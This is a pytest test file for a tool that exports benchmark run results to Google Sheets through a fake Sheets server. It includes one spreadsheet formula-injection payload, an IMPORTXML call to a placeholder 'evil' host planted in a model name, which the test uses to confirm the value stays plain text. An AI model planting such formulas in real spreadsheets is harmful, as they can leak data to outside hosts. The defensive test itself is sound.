"""`--to sheet` against a server that speaks Google's wire format: what it shows, writes, finds again and says."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from time import monotonic
from typing import Any

import pytest

from tests.cli.conftest import Done, Invoke
from tests.export.runs import passed, small_run, write_run
from tests.log.records import make_manifest
from tests.support import sheets as google
from tests.support.sheets import EMAIL, Fault, Keys, Sheets, Tab, serving, write_service_account
from webarena_runner.export.leaderboard import COLUMNS

OFFICIAL = [
    *(
        "Release Date",
        "Open?",
        "Model Size (billion)",
        "Model",
        "Success Rate (%)",
        "Result Source",
        "Work",
        "Traj",
        "Note",
    )
]
OLD = ["06/2023", "No", "1000", "GPT-4", 14.41, "WebArena", "CoT", "https://x", ""]
READ = ["token 200", "spreadsheet 200", "spreadsheet 200", "values 200"]
Export = Callable[..., Done]


@pytest.fixture(scope="session")
def keys() -> Keys:
    return Keys()


@pytest.fixture
def sheets(keys: Keys) -> Iterator[Sheets]:
    with serving(keys) as served:
        yield served


@pytest.fixture
def account(tmp_path: Path, sheets: Sheets, keys: Keys) -> Path:
    return write_service_account(tmp_path / "account.json", sheets, keys.private)


@pytest.fixture
def export(workdir: Path, account: Path, sheets: Sheets, invoke: Invoke, monkeypatch: pytest.MonkeyPatch) -> Export:
    """Exports the run `r1`, which is there, to the sheet."""
    small_run(workdir / "results")
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(account))
    monkeypatch.setenv("HOME", str(workdir))

    def call(*arguments: str, sheet: str = "") -> Done:
        api = ("-o", f"api_url={sheets.url}", "-o", "retry_first_wait_s=0.01")
        return invoke("export", "r1", "--to", "sheet", "--sheet", sheet or sheets.address, *api, *arguments)

    return call


def row(tab: Tab, at: int) -> dict[str, Any]:
    """A row by the names of the first one."""
    return {name: cell for name, cell in zip(tab.cells[0], tab.cells[at], strict=False) if cell != ""}


def test_without_write_the_row_is_shown_and_where_it_would_go_and_nothing_written(
    export: Export, sheets: Sheets
) -> None:
    sheets.tab.cells = [[*OFFICIAL], [*OLD]]
    done = export()
    assert done.code == 0, done
    assert done.out.startswith("sheet: dry run, nothing was written; --write appends this row to 'Runs' (https://docs")
    assert "header in row 1; the row goes below row 2" in done.out
    assert "D  Model                 meta-llama/Meta-Llama-3-8B-Instruct\n" in done.out
    assert "E  Success Rate (%)      25\n" in done.out
    assert "left out, as there is no such column: Run ID, Task Set, Profile" in done.out
    assert sheets.tab.cells == [OFFICIAL, OLD]
    assert sheets.log == READ
    assert sheets.scopes == ["https://www.googleapis.com/auth/spreadsheets.readonly"]


def test_the_row_is_appended_once_in_the_columns_of_the_same_name(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [["Note", "Model", "Success Rate (%)", "run id", "Ours alone"], ["x", "GPT-4", 14.41, "r0", "y"]]
    done = export("--write", "-o", "traj=https://trajectories.example")
    assert done.code == 0, done
    assert done.out.startswith("sheet: row 3 of 'Runs' (https://docs.google.com/spreadsheets/d/")
    assert done.out.endswith(": 4 cells, 25 of ours have no column there\n")
    assert sheets.tab.cells[1] == ["x", "GPT-4", 14.41, "r0", "y"]
    assert sheets.tab.cells[2][:4] == [
        "mini: not WebArena; 1 errored; 1 not run",
        "meta-llama/Meta-Llama-3-8B-Instruct",
        25,
        "r1",
    ]
    assert len(sheets.tab.cells) == 3
    (asked,) = sheets.bodies
    assert asked["query"]["valueInputOption"] == "RAW"
    assert asked["query"]["insertDataOption"] == "INSERT_ROWS"
    assert asked["range"] == "B2"

    again = export("--write")
    assert (again.code, len(sheets.tab.cells)) == (0, 3)
    assert "already there, row 3 of 'Runs'" in again.out
    assert again.out.endswith("; up to date\n")


def test_a_sheet_without_a_column_for_the_id_finds_the_run_by_its_note(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [[*OFFICIAL], [*OLD]]
    assert export("--write").code == 0
    assert row(sheets.tab, 2)["Note"] == "mini: not WebArena; 1 errored; 1 not run [run r1]"
    assert "already there, row 3" in export("--write").out
    assert len(sheets.tab.cells) == 3


def test_an_empty_worksheet_gets_the_header_first(export: Export, sheets: Sheets) -> None:
    shown = export()
    assert "the worksheet is empty: the header is written first" in shown.out
    assert sheets.tab.cells == []
    assert export("--write").code == 0
    assert sheets.tab.cells[0] == list(COLUMNS)
    written = row(sheets.tab, 1)
    assert (written["Run ID"], written["N Planned"], written["Steps"]) == ("r1", 4, 9)
    assert "Traj" not in written
    assert "already there, row 2" in export("--write").out


def test_a_note_and_empty_rows_may_stand_above_the_header_and_a_line_below_the_table(
    export: Export, sheets: Sheets
) -> None:
    note = ["Results of our group. Model: see below"]
    sheets.tab.cells = [note, [], ["", *OFFICIAL], ["", *OLD], ["", *OLD], [], ["", "as of November"]]
    done = export("--write")
    assert "row 6 of 'Runs'" in done.out, done
    assert sheets.tab.cells[5][4] == "meta-llama/Meta-Llama-3-8B-Instruct"
    assert sheets.tab.cells[:5] == [note, [], ["", *OFFICIAL], ["", *OLD], ["", *OLD]]
    assert sheets.tab.cells[7] == ["", "as of November"]


def test_a_column_of_others_beside_the_table_does_not_shift_the_row(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [["", "Model", "Run ID", "SR"], [1, "GPT-4", "r0", 14.41], [2, "", "", ""]]
    assert export("--write").code == 0
    assert sheets.tab.cells[3] == ["", "meta-llama/Meta-Llama-3-8B-Instruct", "r1", 25]


def test_a_row_that_the_server_begins_elsewhere_is_put_into_its_columns(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [["", "Model", "Run ID", "SR"], ["", "GPT-4", "r0", 14.41]]
    # What we see as an empty cell is none for the server.
    sheets.tab.block = lambda row, column: {(row, 0)}  # type: ignore[method-assign]
    assert export("--write").code == 0
    assert sheets.tab.cells[2] == ["", "meta-llama/Meta-Llama-3-8B-Instruct", "r1", 25]


def test_a_long_sheet_takes_no_longer(export: Export, sheets: Sheets) -> None:
    rows = [[f"m{at}", f"old{at}", at % 100, *"abcdefghij"] for at in range(3000)]
    sheets.tab.cells = [["Model", "Run ID", "SR", *"ABCDEFGHIJ"], *rows]
    begun = monotonic()
    assert "row 3002 of 'Runs'" in export("--write").out
    assert monotonic() - begun < 10


def test_names_of_columns_are_matched_by_meaning(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [
        [" MODEL ", "run_id", "Success  rate", "Notes", "Trajectories", "Open-source", "Size (B)", "Cost"]
    ]
    assert export("--write", "-o", "traj=https://t.example").code == 0
    assert sheets.tab.cells[1][:7] == [
        *("meta-llama/Meta-Llama-3-8B-Instruct", "r1", 25, "mini: not WebArena; 1 errored; 1 not run"),
        *("https://t.example", "Yes", 8),
    ]


@pytest.mark.parametrize(
    ("rates", "percent", "written"),
    [
        (["0.1441", "0.35"], False, 0.25),
        (["14,41", "0,35"], False, 25),
        (["0,1441"], False, 0.25),
        (["-"], False, 25),
        ([14.41, 0], False, 25),
        ([0.1441], True, 0.25),
        ([], False, 25),
    ],
)
def test_a_rate_is_written_as_those_above_it_are(
    export: Export, sheets: Sheets, rates: list[Any], percent: bool, written: float
) -> None:
    sheets.tab.cells = [["Model", "Run ID", "SR"], *(["m", f"old{at}", rate] for at, rate in enumerate(rates))]
    sheets.tab.percent = frozenset([2]) if percent else frozenset()
    assert export("--write").code == 0
    assert sheets.tab.cells[-1][2] == written


def test_a_name_that_a_spreadsheet_would_compute_stays_text(
    workdir: Path, export: Export, sheets: Sheets, invoke: Invoke
) -> None:
    formula = '=IMPORTXML("http://evil/","//a")'
    write_run(workdir / "results" / "r1b", [passed(1)], manifest=make_manifest("r1b", model=formula))
    sheets.tab.cells = [["Model", "Run ID"]]
    done = invoke("export", "r1b", "--to", f"sheet={sheets.address}", "-o", f"api_url={sheets.url}", "--write")
    assert (done.code, sheets.tab.cells[1]) == (0, [formula, "r1b"])
    assert sheets.bodies[0]["query"]["valueInputOption"] == "RAW"


def test_an_update_renews_what_was_measured_and_no_more(workdir: Path, export: Export, sheets: Sheets) -> None:
    header = ["Model", "Run ID", "SR", "N Errored", "Work", "Reviewed by", "Note"]
    sheets.tab.cells = [header, ["Llama by hand", "r1", 10, 2, "", "Ann", "old"], ["other", "r0", 1, 1, "", "", ""]]
    assert "already there, row 2 of 'Runs'" in (told := export("--write").out)
    assert "4 of its cells would be renewed by -o update=true" in told
    shown = export("-o", "update=true")
    assert "--write renews 4 cells of row 2" in shown.out
    assert "C2  Success Rate (%): 10 -> 25" in shown.out
    assert "Model" not in shown.out
    assert sheets.tab.cells[1][2] == 10
    done = export("-o", "update=true", "--write")
    assert done.code == 0, done
    assert sheets.tab.cells == [
        header,
        ["Llama by hand", "r1", 25, 1, "Llama 3", "Ann", "mini: not WebArena; 1 errored; 1 not run"],
        ["other", "r0", 1, 1, "", "", ""],
    ]
    assert "nothing to renew" in export("-o", "update=true").out
    before = len(sheets.bodies)
    assert export("-o", "update=true", "--write").code == 0
    assert len(sheets.bodies) == before


def test_another_run_of_the_same_id_is_not_taken_for_this_one(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [["Model", "Run ID", "Started"], ["m", "r1", "2025-05-05T00:00:00Z"]]
    done = export("--write", "-o", "update=true")
    assert done.code == 2
    assert "row 2 is of another run 'r1', which began 2025-05-05T00:00:00Z and not 2026-01-01" in done.err
    assert sheets.tab.cells[1] == ["m", "r1", "2025-05-05T00:00:00Z"]


@pytest.mark.parametrize(
    ("fault", "log"),
    [
        (
            Fault("append", 503, google.UNAVAILABLE, applied=True),
            [*READ, "append 503 (applied)", "values 200", "values 200"],
        ),
        (
            Fault("append", 503, google.UNAVAILABLE),
            [*READ, "append 503", "values 200", "append 200", "values 200"],
        ),
        (
            Fault("append", 502, google.BAD_GATEWAY, applied=True),
            [*READ, "append 502 (applied)", "values 200", "values 200"],
        ),
        (
            Fault("append", 0, applied=True),
            [*READ, "append 0 (applied)", "values 200", "values 200"],
        ),
        (
            Fault("append", 200, {}, applied=True, delay_s=1.2),
            [*READ, "append 200 (applied)", "values 200", "values 200"],
        ),
        (
            Fault("append", 429, google.QUOTA, {"Retry-After": "1"}),
            [*READ, "append 429", "values 200", "append 200", "values 200"],
        ),
        (
            Fault("values", 500, google.BAD_GATEWAY),
            [*READ[:-1], "values 500", "values 200", "append 200", "values 200"],
        ),
        (
            Fault("token", 503, {"error": "internal_failure"}),
            ["token 503", *READ, "append 200", "values 200"],
        ),
    ],
    ids=["applied-503", "503", "applied-502-html", "applied-closed", "applied-slow", "429", "read-500", "token-503"],
)
def test_an_append_that_failed_is_looked_for_before_it_is_tried_again(
    export: Export, sheets: Sheets, caplog: pytest.LogCaptureFixture, fault: Fault, log: list[str]
) -> None:
    """The request log: the run is never there twice."""
    sheets.tab.cells = [["Model", "Run ID", "SR"], ["GPT-4", "r0", 14.41]]
    sheets.faults = [fault]
    done = export("--write", "-o", "timeout_s=0.8")
    assert done.code == 0, done
    assert sheets.log == log
    assert sheets.tab.cells[2:] == [["meta-llama/Meta-Llama-3-8B-Instruct", "r1", 25]]
    if fault.kind == "append":
        assert "writing the row:" in caplog.text
        assert "trying again in" in caplog.text


def test_an_end_to_patience_says_that_the_row_may_be_there(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [["Model", "Run ID", "SR"]]
    sheets.faults = [Fault("append", 503, google.UNAVAILABLE)] * 50
    done = export("--write", "-o", "limit_s=0.3")
    assert done.code == 2
    assert "503 The service is currently unavailable." in done.err
    assert "export again, which finds it if it was" in done.err
    assert "Traceback" not in done.err


def test_a_row_that_is_not_there_afterwards_is_told(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [["Model", "Run ID", "SR"]]
    sheets.faults = [Fault("append", 200, {"updates": {"updatedRange": "'Runs'!A2:C2"}})]
    done = export("--write")
    assert (done.code, done.out) == (2, "")
    assert "the row of run r1 is not there as it was written" in done.err


@pytest.mark.parametrize(
    ("fault", "messages"),
    [
        (Fault("spreadsheet", 403, google.NO_ACCESS), (EMAIL, "has no access", "Share", "as Editor")),
        (Fault("spreadsheet", 403, google.NOT_ENABLED), ("API is not enabled", "library/sheets.googleapis.com")),
        (Fault("spreadsheet", 403, google.NARROW_SCOPES), ("was made for other services", "make a new key")),
        (Fault("spreadsheet", 404, google.NOT_FOUND), ("there is no such sheet", "copy its address")),
        (Fault("values", 400, google.EXCEL), ("is an Excel file", "Save as Google Sheets")),
        (Fault("append", 403, google.NO_ACCESS), (EMAIL, "has no access", "as Editor")),
        (
            Fault("token", 400, {"error": "invalid_grant", "error_description": "Invalid JWT Signature."}),
            ("account.json: Google gives no access token", "Invalid JWT Signature", "make a new key"),
        ),
        (Fault("spreadsheet", 200, "<html>Welcome to our hotel"), ("no JSON, as of a log-in page of this network",)),
        (Fault("spreadsheet", 200, {"hello": 1}), ("does not answer as Google's Sheets API does",)),
        (
            Fault("append", 429, google.QUOTA, {"Retry-After": "3600"}),
            ("quota of requests is used up", "Write requests per minute"),
        ),
    ],
    ids=["not-shared", "not-enabled", "scopes", "not-there", "excel", "viewer", "key", "portal", "gateway", "quota"],
)
def test_what_google_refuses_is_told_with_what_to_do(
    export: Export, sheets: Sheets, fault: Fault, messages: tuple[str, ...]
) -> None:
    sheets.tab.cells = [["Model", "Run ID", "SR"]]
    sheets.faults = [fault]
    done = export("--write")
    assert (done.code, done.out) == (2, "")
    for message in messages:
        assert message in done.err
    assert "PRIVATE KEY" not in done.err
    assert "access-1" not in done.err
    assert len(sheets.tab.cells) == 1


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        ([["Some", "other", "table"], [1, 2, 3]], "no header row among its first 50 rows (the first says: Some, other"),
        ([["Model", "Success Rate (%)"]], "has neither 'Run ID' nor 'Note'"),
    ],
)
def test_a_sheet_without_our_header_is_told(
    export: Export, sheets: Sheets, cells: list[list[Any]], message: str
) -> None:
    sheets.tab.cells = cells
    done = export("--write")
    assert done.code == 2
    assert message in done.err
    assert sheets.bodies == []


def test_the_worksheet_is_the_one_named_or_the_one_in_the_address(export: Export, sheets: Sheets) -> None:
    sheets.tabs = [Tab("Read me"), Tab("Bob's runs", [["Model", "Run ID"]])]
    assert export("--write", "--worksheet", "Bob's runs").code == 0
    assert "row 2 of 'Bob's runs'" in export(sheet=sheets.address.replace("gid=0", "gid=7")).out
    done = export("--worksheet", "Runs")
    assert (done.code, "has no worksheet 'Runs'; there are: 'Read me', 'Bob's runs'" in done.err) == (2, True)
    assert "no worksheet with gid=3; there are" in export(sheet=sheets.address.replace("gid=0", "gid=3")).err


def test_a_tab_with_a_chart_is_no_worksheet(export: Export, sheets: Sheets) -> None:
    sheets.tabs = [Tab("Chart", chart=True), Tab("Runs", [["Model", "Run ID"]])]
    assert "row 2 of 'Runs'" in export("--write", sheet=google.SHEET_ID).out
    assert "has no worksheet 'Chart'; there are: 'Runs'" in export("--worksheet", "Chart").err


def test_a_run_that_is_there_twice_is_told(export: Export, sheets: Sheets) -> None:
    sheets.tab.cells = [["Model", "Run ID"], ["m", "r1"], ["m", "r0"], ["m", "r1"]]
    assert "; and once more in row 4: delete what is too much" in export("--write").out


@pytest.mark.parametrize(
    ("sheet", "message"),
    [
        ("https://example.org/x", "expected the address of a Google Sheet, such as https://docs.google.com"),
        ("https://docs.google.com/spreadsheets/d/e/2PACX-1vQxxxxxxxxxxxxxxxxxxxx/pubhtml", "a published copy"),
    ],
)
def test_what_is_no_address_of_a_sheet_is_refused(export: Export, sheet: str, message: str) -> None:
    done = export(sheet=sheet)
    assert done.code == 2
    assert message in done.err


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "cannot be read: No such file"),
        ("no json", "expected the JSON file of a service account"),
        ('{"installed": {"client_id": "x"}}', "is an OAuth client, with which a person logs in once; run: python -c"),
        ('{"type": "external"}', "expected 'type': 'service_account' or 'authorized_user', found 'external'"),
        ('{"type": "service_account", "client_email": "a@b"}', "lacks private_key, token_uri"),
        (
            '{"type": "service_account", "client_email": "a@b", "private_key": "k", "token_uri": "http://x"}',
            "its private key cannot be read",
        ),
    ],
)
def test_a_file_that_is_no_credentials_is_told_before_anything_is_asked(
    tmp_path: Path, export: Export, sheets: Sheets, content: str | None, message: str
) -> None:
    path = tmp_path / "odd.json"
    if content is not None:
        path.write_text(content)
    done = export("-o", f"credentials={path}")
    assert done.code == 2
    assert message in done.err
    assert sheets.log == []


def test_credentials_are_found_where_gspread_keeps_them_or_the_places_named(
    workdir: Path, account: Path, export: Export, sheets: Sheets, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS")
    done = export()
    assert "neither -o credentials=FILE nor GOOGLE_APPLICATION_CREDENTIALS is given, and there is neither " in done.err
    kept = workdir / ".config" / "gspread"
    kept.mkdir(parents=True)
    user = {"client_id": "c", "client_secret": "s", "refresh_token": "r"}
    # With one that holds, none is asked for: google-auth asks Google for a person's token, wherever the file points.
    token = {"token": "access-1", "expiry": "2100-01-01T00:00:00Z"}
    (kept / "authorized_user.json").write_text(json.dumps(user | token))
    assert export().code == 0
    sheets.shared = False
    assert "the person of" in export().err
    assert sheets.log == [*READ[1:], "spreadsheet 403"]
